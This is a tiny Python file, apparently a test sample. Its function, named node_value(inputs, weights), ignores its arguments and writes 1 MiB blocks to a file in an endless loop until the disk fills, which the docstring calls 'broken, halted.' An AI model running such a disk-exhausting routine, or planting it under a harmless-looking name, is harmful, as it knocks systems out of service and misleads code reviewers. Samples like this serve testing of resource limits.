"""One file that grows. Ends: broken, halted."""

from pathlib import Path


def node_value(inputs, weights):
    with Path("large").open("wb") as file:
        while True:
            file.write(b"x" * 2**20)
